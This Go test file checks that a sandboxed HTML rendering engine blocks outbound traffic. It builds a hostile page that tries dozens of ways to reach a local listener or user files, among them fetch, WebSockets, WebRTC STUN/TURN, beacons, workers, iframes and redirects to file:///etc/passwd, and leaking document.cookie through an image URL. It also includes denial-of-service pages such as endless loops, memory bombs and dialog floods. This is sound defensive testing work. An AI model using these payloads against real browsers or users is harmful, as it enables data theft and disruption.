package browser

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"easel/internal/require"
	"easel/ui/core/render"
)

// A hitCounter counts the connections and packets that its port receives.
type hitCounter struct {
	atomic.Int64

	once  sync.Once
	first chan struct{} // closed when the first has come
}

func (g *hitCounter) hit() {
	g.Add(1)
	g.once.Do(func() { close(g.first) })
}

func listen(t *testing.T) (port int, seen *hitCounter) {
	t.Helper()
	seen = &hitCounter{first: make(chan struct{})}
	tcp, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { tcp.Close() })
	port = tcp.Addr().(*net.TCPAddr).Port
	udp, err := new(net.ListenConfig).ListenPacket(t.Context(), "udp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return
			}
			seen.hit()
			conn.Close()
		}
	}()
	go func() {
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 1500)); err != nil {
				return
			}
			seen.hit()
		}
	}()
	return port, seen
}

// attack returns a page that tries everything to reach 127.0.0.1 and the user's files.
func attack(port int) string {
	return strings.NewReplacer("HOST", fmt.Sprintf("127.0.0.1:%d", port), "PORT", fmt.Sprint(port)).Replace(`<!DOCTYPE html><html><head>
<link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="http://HOST"><link rel="preconnect" href="http://localhost:PORT">
<link rel="prefetch" href="http://HOST/prefetch"><link rel="prerender" href="http://HOST/prerender"><link rel="stylesheet" href="http://HOST/style.css">
<link rel="preload" as="image" href="http://HOST/preload"><link rel="modulepreload" href="http://HOST/module.js"><link rel="icon" href="http://HOST/icon">
<script type="speculationrules">{"prerender":[{"urls":["http://HOST/speculation"]}],"prefetch":[{"urls":["http://HOST/speculation2"]}]}</script>
<meta http-equiv="refresh" content="1;url=http://HOST/refresh">
</head><body>` + redBox + `
<img src="http://HOST/img"><iframe src="http://HOST/frame"></iframe><iframe src="file:///etc/passwd"></iframe><object data="http://HOST/object"></object>
<embed src="http://HOST/embed"><video src="http://HOST/video"></video><a id="ping" href="http://HOST/a" ping="http://HOST/ping" download>x</a>
<form id="form" action="http://HOST/form" method="post"><input name="a" value="b"></form>
<script>
const tries = [
  () => fetch("http://HOST/fetch"), () => fetch("http://localhost:PORT/fetch"), () => fetch("http://[::1]:PORT/fetch"), () => fetch("file:///etc/passwd"),
  () => fetch("http://HOST/keep", {method: "POST", keepalive: true, body: "x"}),
  () => { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr"); x.send() },
  () => navigator.sendBeacon("http://HOST/beacon", "x"), () => new WebSocket("ws://HOST/ws"), () => new WebSocket("ws://localhost:PORT/ws"),
  () => new EventSource("http://HOST/events"), () => new WebTransport("https://HOST/wt"), () => new Worker("http://HOST/worker.js"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/inworker'); new WebSocket('ws://HOST/inworker')"]))),
  () => new SharedWorker("http://HOST/shared.js"), () => navigator.serviceWorker.register("/sw.js"), () => import("http://HOST/import.js"),
  () => window.open("http://HOST/open"), () => document.getElementById("form").submit(), () => document.getElementById("ping").click(),
  () => new Audio("http://HOST/audio").play(), () => { new Image().src = "http://HOST/image?" + document.cookie },
  () => { const f = document.createElement("iframe"); f.srcdoc = "<script>new WebSocket('ws://HOST/srcdoc'); fetch('http://HOST/srcdoc')<\/script>"; document.body.append(f);
          try { const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "stun:HOST"}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)) } catch {} },
  () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:HOST"}, {urls: "turn:HOST?transport=tcp", username: "a", credential: "b"}, {urls: "turn:HOST", username: "a", credential: "b"}]});
          p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)) },
  () => { location.href = "file:///etc/passwd" }, () => { location.href = "http://HOST/location" }, () => { top.location = "chrome://version" },
  () => alert(1), () => confirm(1), () => prompt(1), () => print(), () => { onbeforeunload = e => { e.preventDefault(); return "stay" } },
];
for (const attempt of tries) try { const p = attempt(); if (p && p.catch) p.catch(() => {}) } catch {}
</script></body></html>`)
}

// TestLiveNothingGetsOut disables the layers of protection one by one. The others must be enough.
func TestLiveNothingGetsOut(t *testing.T) {
	isolated := engine(t, func(c *Config) { c.calm = 2 * time.Second })
	here := engine(t, func(c *Config) { c.calm = 2 * time.Second })
	for _, c := range []struct {
		name string
		e    *Engine
		open doors
	}{
		{"all layers", isolated, doors{}},
		{"on the machine's network", here, doors{namespace: true}},
		{"without the policy", here, doors{namespace: true, policy: true}},
		{"the names alone", here, doors{namespace: true, policy: true, interception: true}},
	} {
		t.Run(c.name, func(t *testing.T) {
			port, seen := listen(t)
			c.e.turn <- struct{}{} // after tidy
			c.e.open = c.open
			<-c.e.turn
			pic, err := c.e.Draw(t.Context(), htmlRequest(attack(port)))
			if _, refused := errors.AsType[*render.RefusedError](err); err != nil && !refused {
				t.Fatal(err)
			}
			if c.open == (doors{}) {
				if err != nil || red(t, pic) != 200*100 {
					t.Errorf("the figure is not drawn as it is: %v", err)
				}
				if blocked := strings.Join(pic.Blocked, " "); !strings.Contains(blocked, "/fetch") || !strings.Contains(blocked, "/img") {
					t.Errorf("blocked: %v", pic.Blocked)
				}
			}
			if pic := draw(t, c.e, htmlRequest(redBox)); red(t, pic) != 200*100 {
				t.Error("the next figure is wrong")
			}
			if n := seen.Load(); n != 0 {
				t.Errorf("%d connections or packets", n)
			}
		})
	}
}

// TestLiveAttackIsOne checks that without any protection, the page reaches the listener.
func TestLiveAttackIsOne(t *testing.T) {
	port, seen := listen(t)
	e := engine(t, func(c *Config) { c.calm = 2 * time.Second })
	e.open = doors{interception: true, policy: true, resolver: true, namespace: true}
	ctx, cancel := context.WithCancel(t.Context())
	go func() {
		select {
		case <-seen.first:
			cancel() // without the layers, the page does not let itself be drawn
		case <-ctx.Done():
		}
	}()
	_, _ = e.Draw(ctx, htmlRequest(attack(port)))
	cancel()
	if seen.Load() == 0 {
		t.Error("the attack reaches nothing even so: the tests with it prove nothing")
	}
}

func TestLiveGreedyFigures(t *testing.T) {
	const long, short = 2 * time.Minute, 4 * time.Second
	e := engine(t, func(c *Config) { c.TimeLimit, c.MemoryLimit, c.calm = long, 1<<30, time.Second })
	for _, c := range []struct {
		name, text string
		limit      time.Duration
		drawn      bool
	}{
		{"an endless loop", `<script>for (;;) {}</script>`, short, false},
		{"a loop in a frame after the load", redBox + `<iframe srcdoc="<script>onload = () => setTimeout(() => { for (;;) {} }, 50)</script>"></iframe>`, short, false},
		{"buffers without end", `<script>const a = []; setInterval(() => { const b = new Uint8Array(64 << 20).fill(1); a.push(b) }, 1)</script>`, long, false},
		{"dialogs without end", redBox + `<script>setInterval(() => { alert(1); print() }, 1)</script>`, long, true},
		{"a canvas of 100,000", redBox + `<canvas width="100000" height="100000"></canvas>`, long, true},
		{"a page that is long", `<div style="width:10px;height:30000000px;background:#d62728"></div>`, long, true},
		{"requests without end", redBox + `<script>let n = 0; setInterval(() => { for (let i = 0; i < 10; i++) fetch("https://a.example/" + n++).catch(() => {}) }, 20)</script>`, long, true},
		{"a change in every frame", redBox + `<p id="p">x</p><script>const f = () => { p.textContent = Math.random(); requestAnimationFrame(f) }; f()</script>`, long, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e.config.TimeLimit = c.limit
			pic, err := e.Draw(t.Context(), htmlRequest(c.text))
			if _, refused := errors.AsType[*render.RefusedError](err); err != nil && !refused || (err == nil) != c.drawn {
				t.Errorf("%dx%d, %v", pic.Width, pic.Height, err)
			}
			if pic.Width > maxEdge || pic.Height > maxEdge || len(pic.Blocked) > maxBlocked {
				t.Error("the picture is over its limits")
			}
		})
	}
	e.config.TimeLimit = long
	if pic := draw(t, e, htmlRequest(redBox)); red(t, pic) != 200*100 {
		t.Error("the next figure is wrong")
	}
}
